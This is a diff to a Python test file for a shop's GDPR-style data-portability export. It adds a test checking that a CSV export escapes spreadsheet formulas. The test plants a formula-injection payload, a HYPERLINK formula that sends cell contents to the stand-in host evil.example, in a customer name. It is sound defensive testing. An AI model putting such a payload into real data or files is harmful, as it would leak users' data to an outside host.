@@ -9,7 +9,9 @@ byte-for-byte unchanged.
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import uuid
 import zipfile
@@ -365,6 +367,19 @@ def test_portability_never_exports_credentials(shop: Shop) -> None:
     assert b"password_hash" not in everything and b"secret-1" not in everything
     assert shop.deployment.is_secret("account.security_question")  # resets the password too
     assert not shop.deployment.is_secret("account.login")
+
+
+def test_portability_csv_cannot_run_as_a_formula(shop: Shop) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'
+    with shop.deployment.engines["shop"].begin() as conn:
+        conn.execute(sa.text("UPDATE customers SET name = :name WHERE id = 1"), {"name": payload})
+    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
+    run(shop.store, request_id, shop.deployment)
+    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
+        (customer,) = csv.DictReader(io.StringIO(archive.read("shop.customers.csv").decode("utf-8")))
+        data = json.loads(archive.read("data.json"))
+    assert customer["name"] == "'" + payload and customer["phone"] == "+33611111111"
+    assert data["shop.customers"][0]["name"] == payload  # the machine format keeps the value as stored
 
 
 @pytest.mark.usefixtures("umask_022")
